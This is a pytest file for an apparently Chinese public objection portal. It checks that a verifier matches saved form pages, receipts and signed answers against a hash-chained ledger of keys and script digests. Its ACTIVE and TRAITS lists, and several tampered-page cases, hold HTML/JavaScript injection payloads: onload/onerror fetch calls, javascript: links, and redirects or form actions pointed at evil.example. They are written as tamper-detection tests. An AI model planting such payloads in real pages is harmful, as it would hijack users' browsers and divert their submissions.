"""Anybody compares a saved page of the form, and a signed answer, with the ledger."""

import json
import re
from datetime import timedelta

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.casework.answer_signing import answer_key, signed_answer
from portal.casework.identities import new_identity
from portal.cli.verify_command import command as verify
from portal.domain.key_prints import fingerprint
from portal.domain.objection import Answer, AnswerKind, CaseState
from portal.ledger.chain import check_chain
from portal.ledger.ledger_lines import LEDGER_NAME, ledger_texts, read_ledger
from portal.ledger.sealing_lines import keys_of, scripts_of
from portal.ledger.signing import new_key
from portal.ledger.siteproof import sign_site
from portal.proof.form_lines import FormSeals
from portal.proof.form_page import (
    _of_plain,
    form_faults,
    has_loose_script,
    plain_form,
    saved_form,
)
from portal.proof.publishing import publish_folder
from portal.sealed.public_keys import SIGNS, PublicKeys
from portal.sealed.signed_answers import text_of
from portal.sealed.suites import AGE, SM
from portal.web.assets import form_digests
from tests.publicside import OPEN, SLUG, Citizen, public_side
from tests.recording import KEY

IDENTITY, _ = new_identity()


class Published:
    """A public side whose keys and scripts stand in the ledger."""

    def __init__(self, tree, root, suite=AGE):
        self.tree, self.side = tree, public_side(tree, root, suite)
        self.notices = tree.notices[0]
        self.keys = PublicKeys(self.side.root / "keys/public")
        self.office = self.keys.root / "pingding-office" / f"{SLUG}.pub"
        self.office.write_text(f"{SIGNS} {answer_key(IDENTITY).public}\n{self.office.read_text()}")
        self.page = Citizen(self.side).begin()
        self.enter()

    def enter(self, days=0):
        form = FormSeals(self.keys, form_digests())
        at = OPEN + timedelta(days=days)
        publish_folder(self.side.catalogue, self.notices, KEY, at, only=set(), form=form)

    @property
    def ledger(self):
        return self.notices / LEDGER_NAME


@pytest.fixture
def published(site_from, tmp_path, monkeypatch):
    made = Published(site_from(), tmp_path / "state")
    monkeypatch.setenv("PORTAL_NOTICES", str(made.notices))
    return made


def told(path, *options):
    result = CliRunner().invoke(verify, [str(path), *options])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


def test_the_ledger_names_keys_and_scripts_once_and_again_when_they_change(published):
    before = ledger_texts(published.ledger)
    assert check_chain(before).whole
    assert keys_of(before, SLUG)["pingding-office"]["signs"] == answer_key(IDENTITY).public
    [named] = scripts_of(before)
    assert named == form_digests()
    assert all(line.slug for line in read_ledger(published.ledger))
    published.enter(1)
    assert ledger_texts(published.ledger) == before
    published.office.write_text(f"{new_identity()[1]}\n")
    published.enter(2)
    [line] = ledger_texts(published.ledger)[len(before) :]
    assert json.loads(line)["notice"] == SLUG
    assert check_chain(ledger_texts(published.ledger)).whole


def test_the_page_of_keys_lists_every_key_that_ever_stood_the_newest_first(published):
    old = published.keys.recipients("pingding-office", SLUG)[0]
    new = new_identity()[1]
    published.office.write_text(f"{new}\n")
    published.enter(1)
    published.side.catalogue = published.tree.catalogue()
    page = Citizen(published.side).client.get("/objections/keys").text
    receipt = published.keys.receipt()
    prints = [fingerprint(key) for key in (new, old, answer_key(IDENTITY).public, receipt)]
    assert all(one in page for one in prints)
    assert page.index(prints[0]) < page.index(prints[1])
    assert "平定" in page
    assert fingerprint(new_identity()[1]) not in page


def test_a_saved_page_is_as_the_ledger_has_it_or_what_differs_is_told(published, tmp_path):
    page, saved = published.page, tmp_path / "表单.html"
    former = page.replace("data-suite", "data-age")
    assert former != page
    published.side.catalogue = published.tree.catalogue()
    frozen = Citizen(published.side).get(f"/objections/{SLUG}/")
    assert "data-begin" in frozen
    for good in (former, frozen, page):
        saved.write_text(good)
        code, output = told(saved)
        assert (code, output.splitlines()[-1]) == (3, "结论：部分核对"), output
    assert "全部密封公钥都与台账一致" in output
    assert "没有核对的：页面的文字" in output
    age = next(name for name in form_digests() if name.startswith("age."))
    other = new_identity()[1]
    seals = published.keys.recipients("pingding-office", SLUG)[0]
    for changed, said in (
        (frozen.replace(seals, other), "公钥与台账不符：pingding-office"),
        (page.replace(seals, other), "公钥与台账不符：pingding-office"),
        (page.replace(form_digests()[age], "sha384-AAAA"), f"脚本 {age}"),
        (page.replace("data-suite", "data-other"), "不用的属性“data-other”"),
        (page.replace("</head>", '<script src="/static/more.js"></script></head>'), "more.js"),
        (page.replace("</head>", "<script>fetch('x')</script></head>"), "直接写入的脚本"),
        (page.replace("<h1", '<h1 onclick="x()"'), "直接写入的程序"),
        (page.replace(' integrity="sha384-', ' data-was="sha384-'), "属性“data-was”"),
        (page.replace(' integrity="sha384-', ' title="sha384-'), "属性“title”"),
        (re.sub(' integrity="[^"]*"', "", page), "校验值与台账不符"),
        (re.sub(' data-aloud-digest="[^"]*"', "", frozen), "脚本 aloud."),
        (re.sub('data-aloud="[^"]*"', 'data-aloud="/static/aloud.0.js"', page), "aloud.0.js"),
        (re.sub('data-aloud-digest="[^"]*"', 'data-aloud-digest=""', page), "脚本 aloud."),
        (page.replace("<h1", '<h1 data-aloud="/static/more.js"'), "属性“data-aloud”"),
    ):
        assert changed != page, said
        saved.write_text(changed)
        code, output = told(saved)
        assert code == 1, said
        assert said in output


def test_a_page_of_before_the_aloud_script_had_a_digest_is_checked_in_part(published, tmp_path):
    """Its line names none; a page of now without the digest is no such page."""
    saved = tmp_path / "表单.html"
    texts = [one.replace('"aloud.', '"other.') for one in ledger_texts(published.ledger)]
    saved.write_text(re.sub(' data-aloud-digest="[^"]*"', "", published.page))
    form = saved_form(saved.read_bytes())
    keys = keys_of(texts, SLUG)
    assert form_faults(form, scripts_of(texts), keys) == ()
    assert has_loose_script(form)
    [now] = scripts_of(ledger_texts(published.ledger))
    for lists in ([*scripts_of(texts), now], [now], [], [{**now, "sealing.0.js": "x"}]):
        assert any("aloud." in fault for fault in form_faults(form, lists, keys))


def test_the_frozen_form_is_unchanged_only_as_the_signed_site_has_it(published, tmp_path):
    published.side.catalogue = published.tree.catalogue()
    frozen = Citizen(published.side).get(f"/objections/{SLUG}/")
    site, saved = tmp_path / "site", tmp_path / "表单.html"
    page = site / "objections" / SLUG / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(frozen)
    sign_site(site, KEY, OPEN)
    saved.write_text(frozen)
    assert told(page)[0] == 0
    assert told(saved)[0] == 3, "no site at hand"
    code, output = told(saved, "--site", str(site))
    assert (code, output.splitlines()[-1]) == (0, "结论：未改动"), output
    saved.write_text(frozen.replace("提出异议", "提出異議", 1))
    code, output = told(saved, "--site", str(site))
    assert (code, output.splitlines()[-1]) == (1, "结论：已改动"), output
    assert told(saved)[0] == 3
    seals = published.keys.recipients("pingding-office", SLUG)[0]
    page.write_text(frozen.replace(seals, new_identity()[1]))
    sign_site(site, new_key(tmp_path / "other.pem", None), OPEN)
    assert told(page)[0] == 1, "a site of somebody else's proves nothing"
    page.write_text(frozen)
    sign_site(site, new_key(tmp_path / "third.pem", None), OPEN)
    assert told(page)[0] == 3
    (site / "manifest.json.minisig").unlink()
    assert told(page)[0] == 3


# What makes a browser run, load or send what is not the site's, at whatever place it stands.
ACTIVE = (
    "<svg/onload=fetch('//x')>",
    '<img alt=">" src=x onerror="fetch(1)">',
    '<img src="/x" onerror="fetch(1)">',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="//evil.example/">x</a>',
    '<script src="https:/evil.example/static/sealing.js"></script>',
    '<script src="/static/more.js"></script>',
    "<script>fetch('x')</script>",
    "<SCRIPT SRC=/static/more.js></SCRIPT>",
    '<button data-old="/x&quot;&gt;&lt;script/src=/y&gt;">x</button>',
    '<script src="/x" data-old="/x&quot;&gt;&lt;script/src=/y&gt;"></script>',
    '<iframe srcdoc="x"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>@import 'https://evil.example/'</style>",
    '<form method="post" action="/new"><input name="facts"></form>',
    '<form role="search" action="/search/"><textarea name="facts"></textarea></form>',
    '<form method="post" action="/new" data-sealing="{}"></form>',
    "<template><form></template></form>",
    "<template></form></template>",
    "<!-- x -->",
    "<!-- ",
    "<![CDATA[ x ]]>",
    "<?xml x?>",
    "<noscript>",
    "<plaintext>",
    "<textarea>",
    "<template>",
    "<title>",
    "<",
    "\x1b(B",
    "\x00",
)
TRAITS = (
    ' onclick="x()"',
    " onfocus=x autofocus",
    ' style="x"',
    ' formaction="https://evil.example/"',
    "/onload=x",
    ' action="https://evil.example/"',
    ' data-begin="https://evil.example/begin"',
    ' src="https://evil.example/static/age.js" integrity=""',
    ' class="x" class="y"',
    " data-sealing='{}'",
    ' data-asking="/x"',
)


def test_whatever_is_written_into_a_page_is_refused_wherever_it_stands(published):
    texts = ledger_texts(published.ledger)
    scripts, keys = scripts_of(texts), keys_of(texts, SLUG)
    published.side.catalogue = published.tree.catalogue()
    citizen = Citizen(published.side)
    frozen = citizen.get(f"/objections/{SLUG}/")
    pages = (published.page, frozen, citizen.get("/objections/status"))

    def faults(page):
        return form_faults(_of_plain(plain_form(page.encode())), scripts, keys)

    assert not any(map(faults, pages))

    @settings(max_examples=120, deadline=None)
    @given(st.data())
    def inserted(data):
        page = data.draw(st.sampled_from(pages))
        if data.draw(st.booleans()):
            place, more = data.draw(st.integers(0, len(page))), data.draw(st.sampled_from(ACTIVE))
        else:
            tags = list(re.finditer(r"<[a-z][a-z0-9]*", page))
            tag = data.draw(st.sampled_from(tags))
            ends = (tag.end(), page.index(">", tag.end()))
            place, more = data.draw(st.sampled_from(ends)), data.draw(st.sampled_from(TRAITS))
        assert faults(page[:place] + more + page[place:]), (place, more)

    inserted()
    other = new_identity()[1]
    seals = published.keys.recipients("pingding-office", SLUG)[0]
    [form] = re.findall(r"<form[^>]*data-sealing[^>]*>", frozen)
    false = form.replace(seals, other)
    [sealing] = re.findall(r'data-sealing="[^"]*"', form)
    named = "&#34;offices&#34;:{&#34;x&#34;:{&#34;slug&#34;:&#34;pingding-office&#34;,"
    for changed in (
        frozen.replace(form, false).replace("</body>", f"{form}</form></body>"),
        frozen.replace(form, false).replace("</body>", f"<!-- {form} --></body>"),
        frozen.replace(sealing, f"{sealing.replace(seals, other)} {sealing}"),
        frozen.replace("{&#34;", f"{{{named}&#34;keys&#34;:[&#34;{other}&#34;]}}}},&#34;", 1),
        frozen.replace("&#34;send&#34;:&#34;", "&#34;send&#34;:&#34;https://evil.example"),
        frozen.replace("data-suite=", f'data-age="/static/{next(iter(scripts[0]))}" data-suite='),
        re.sub(r"<script[^>]*/sealing[^>]*></script>", "", frozen),
        frozen.replace("data-begin=", "data-was="),
        published.page.replace("data-suite=", 'data-frozen="javascript:x()" data-suite='),
        published.page.replace("data-worker=", 'data-tells="mail" data-worker="//evil.example'),
    ):
        assert changed != frozen
        assert faults(changed)


def test_a_saved_look_up_page_is_held_against_the_ledger_too(published, tmp_path):
    page, saved = Citizen(published.side).get("/objections/status"), tmp_path / "查询.html"
    saved.write_text(page)
    code, output = told(saved)
    assert (code, output.splitlines()[-1]) == (3, "结论：部分核对"), output
    assert "查询异议办理的页面" in output
    digests = {name.split(".")[0]: digest for name, digest in form_digests().items()}
    for changed in (
        page.replace(digests["age"], "sha384-AAAA"),
        page.replace(digests["status"], "sha384-AAAA"),
        page.replace("data-age", "data-other"),
        page.replace("</form>", '</form><script src="/static/more.js"></script>'),
        page.replace("<h1", '<h1 onclick="x()"'),
    ):
        assert changed != page
        saved.write_text(changed)
        assert told(saved)[0] == 1


def test_a_page_that_seals_with_sm2_is_held_against_the_ledger_too(
    site_from, tmp_path, monkeypatch
):
    made = Published(site_from(), tmp_path / "state", SM)
    monkeypatch.setenv("PORTAL_NOTICES", str(made.notices))
    sm = next(name for name in form_digests() if name.startswith("sm."))
    assert "/age." not in made.page
    assert "国密SM2公钥" in made.page
    for name, page in (
        ("表单.html", made.page),
        ("查询.html", Citizen(made.side).get("/objections/status")),
    ):
        saved = tmp_path / name
        saved.write_text(page)
        assert told(saved)[0] == 3
        saved.write_text(page.replace(form_digests()[sm], "sha384-AAAA"))
        code, output = told(saved)
        assert code == 1
        assert f"脚本 {sm}" in output


def test_an_answer_is_checked_with_the_ledger_s_key_alone(published, tmp_path, monkeypatch):
    answer = signed_answer(
        Answer(1, OPEN, AnswerKind.REPLY, CaseState.EXAMINING, "经核查，异议不成立。"),
        number="YY20211207-7K3QX9PA",
        notice=SLUG,
        office="pingding-office",
        identities=[IDENTITY],
        at=OPEN,
    )
    file = tmp_path / "答复.txt"
    file.write_text(text_of(answer, "YY20211207-7K3QX9PA", SLUG))
    monkeypatch.setenv("PORTAL_KEYS", str(tmp_path / "nothing"))
    assert told(file)[0] == 0
    assert told(file, "--ledger", str(published.ledger))[0] == 0
    citizen = Citizen(published.side)
    citizen.object()
    receipt = tmp_path / "回执.txt"
    receipt.write_text(citizen.hidden()["receipt"])
    assert told(receipt)[0] == 0, "the ledger names the key that signs receipts"
    lines = published.ledger.read_text().splitlines()
    other = answer_key(new_identity()[0]).public
    forged = [line.replace(answer_key(IDENTITY).public, other) for line in lines]
    published.ledger.write_text("\n".join(forged) + "\n")
    for handed in (file, receipt):
        code, output = told(handed)
        assert code == 1
        assert "链条断裂" in output
